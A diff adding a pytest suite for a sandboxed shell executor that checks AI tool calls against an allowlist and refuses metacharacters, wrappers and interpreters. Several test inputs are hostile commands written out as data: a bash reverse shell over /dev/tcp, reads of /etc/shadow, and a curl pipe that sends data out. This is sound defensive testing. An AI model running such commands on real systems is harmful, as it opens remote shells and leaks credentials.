@@ -1,0 +1,161 @@
+"""The shell executor: parsed, checked, and run as an argv in the real OS sandbox."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from callgate._model import ToolCall
+from callgate._policy import FilesystemPolicy, ToolPolicy
+from callgate.executors.shell import (
+    DEFAULT_SHELL_POLICY,
+    ShellExecutor,
+    is_interpreter,
+    program_name,
+    unquoted_metacharacter,
+)
+from callgate.sandbox import available_backends
+
+needs_sandbox = pytest.mark.skipif(not available_backends(),
+                                   reason="no bwrap or firejail on this host")
+ALLOWED = ["ls", "cat", "grep", "echo", "wc", "sudo", "timeout"]
+
+
+def shell(workdir: Path, **kwargs: Any) -> ShellExecutor:
+    kwargs.setdefault("allowed_commands", ALLOWED)
+    return ShellExecutor(kwargs.pop("policy", None), working_dir=str(workdir), **kwargs)
+
+
+def call(**params: Any) -> ToolCall:
+    return ToolCall(tool="sh", tool_class="shell", action="exec", parameters=params, id="c1")
+
+
+def error_id(result: Any) -> str:
+    return str(result.error).split(":", 1)[0]
+
+
+@pytest.fixture
+def work(tmp_path: Path) -> Path:
+    (tmp_path / "a.txt").write_text("alpha\nbeta\n")
+    return tmp_path
+
+
+@needs_sandbox
+def test_plain_command_string_runs_as_the_argv_the_parser_read(work: Path) -> None:
+    result = shell(work)(call(command="grep -n 'beta' a.txt"))
+    assert result.status == "ok"
+    assert result.output["stdout"] == "2:beta\n"
+
+
+@needs_sandbox
+def test_argv_runs_as_is_without_a_shell(work: Path) -> None:
+    result = shell(work)(call(argv=["echo", "$(id)", ";", "|"]))
+    assert result.output["stdout"] == "$(id) ; |\n"
+
+
+@needs_sandbox
+def test_default_policy_hides_files_outside_the_working_dir(work: Path) -> None:
+    result = shell(work)(call(command="cat /etc/shadow"))
+    assert result.status == "denied"
+    assert error_id(result) == "sandbox.read"
+
+
+@needs_sandbox
+def test_default_policy_denies_writes(work: Path) -> None:
+    result = shell(work, allow_metacharacters=True)(call(command="echo x > b.txt"))
+    assert result.status == "denied"
+    assert not (work / "b.txt").exists()
+    assert DEFAULT_SHELL_POLICY.network == "deny"
+
+
+@needs_sandbox
+def test_declared_policy_is_the_sandbox(work: Path) -> None:
+    (work / "out").mkdir()
+    policy = ToolPolicy(filesystem=FilesystemPolicy(read=["./**"], write=["./out/**"]),
+                        network="deny", environment="deny")
+    result = shell(work, policy=policy, allow_metacharacters=True)(
+        call(command="echo hi > out/b.txt"))
+    assert result.status == "ok"
+    assert (work / "out" / "b.txt").read_text() == "hi\n"
+
+
+@pytest.mark.parametrize(("params", "reason"), [
+    ({"command": "cat a.txt | grep a"}, "shell.metacharacter"),
+    ({"command": "ls; ls"}, "shell.metacharacter"),
+    ({"command": "echo $(ls)"}, "shell.metacharacter"),
+    ({"command": "echo hi > x"}, "shell.metacharacter"),
+    ({"command": "echo $HOME"}, "shell.metacharacter"),
+    ({"command": "sudo cat /etc/shadow"}, "shell.wrapper"),
+    ({"argv": ["sudo", "cat", "/etc/shadow"]}, "shell.wrapper"),
+    ({"argv": ["timeout", "5", "cat", "a.txt"]}, "shell.wrapper"),
+    ({"command": "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"}, "shell.interpreter"),
+    ({"argv": ["bash", "-c", "id"]}, "shell.interpreter"),
+    ({"argv": ["/usr/bin/python3.12", "-c", "print(1)"]}, "shell.interpreter"),
+    ({"argv": ["sudo", "perl", "-e", "1"]}, "shell.interpreter"),
+    ({"command": "curl http://x.example"}, "shell.command-not-allowed"),
+    ({"argv": ["/tmp/ls"]}, "shell.command-not-allowed"),
+    ({"command": "echo 'unterminated"}, "shell.unparseable"),
+])
+def test_refused_commands_never_start(work: Path, params: dict[str, Any], reason: str) -> None:
+    # Backend "none" without the unconfined opt-in cannot start anything: had the call reached
+    # the sandbox it would say sandbox.unavailable, so the reason proves the check refused it.
+    result = shell(work, backend="none")(call(**params))
+    assert result.status == "denied", result
+    assert error_id(result) == reason
+
+
+@pytest.mark.parametrize("params", [{}, {"argv": "ls"}, {"argv": []}, {"command": ""},
+                                    {"argv": ["ls"], "command": "ls"}])
+def test_malformed_parameters_are_errors(work: Path, params: dict[str, Any]) -> None:
+    result = shell(work)(call(**params))
+    assert result.status == "error"
+    assert error_id(result) == "params.invalid"
+
+
+@needs_sandbox
+def test_metacharacters_run_through_sh_in_the_sandbox_only_when_allowed(work: Path) -> None:
+    result = shell(work, allow_metacharacters=True)(call(command="cat a.txt | grep beta"))
+    assert result.status == "ok"
+    assert result.output["stdout"] == "beta\n"
+    refused = shell(work, allow_metacharacters=True)(call(command="cat a.txt | curl -d @- x"))
+    assert error_id(refused) == "shell.command-not-allowed"
+
+
+def test_interpreters_are_refused_even_when_allowed_by_name(work: Path) -> None:
+    ex = shell(work, allowed_commands=["python3", "node"])
+    assert error_id(ex(call(argv=["python3", "-c", "1"]))) == "shell.interpreter"
+    assert error_id(ex(call(command="node -e 1"))) == "shell.interpreter"
+
+
+def test_other_tool_classes_are_refused(work: Path) -> None:
+    wrong = ToolCall(tool="x", tool_class="http", action="get", parameters={"argv": ["ls"]})
+    assert error_id(shell(work)(wrong)) == "executor.tool-class"
+
+
+def test_program_names_lose_paths_and_versions() -> None:
+    assert program_name("/usr/bin/python3.12") == "python"
+    assert program_name("md5sum") == "md5sum"
+    assert is_interpreter("/opt/node20") and not is_interpreter("ls")
+
+
+@settings(max_examples=100)
+@given(st.text(alphabet="ab ;|&$`'\"<>()\\\n", max_size=20))
+def test_scanner_flags_exactly_what_the_parser_treats_as_more_than_a_plain_command(
+        text: str) -> None:
+    # Whatever the scanner lets through must parse to one plain simple command, so the
+    # argv that runs is the one that was checked.
+    from callgate.abstraction import abstract_shell
+
+    if unquoted_metacharacter(text) is not None or not text.strip():
+        return
+    commands = abstract_shell(text)
+    if any(c.parse_error for c in commands):
+        return
+    assert len(commands) <= 1
+    if commands:
+        cmd = commands[0]
+        assert not (cmd.redirects or cmd.piped_from or cmd.dynamic or cmd.assignments)
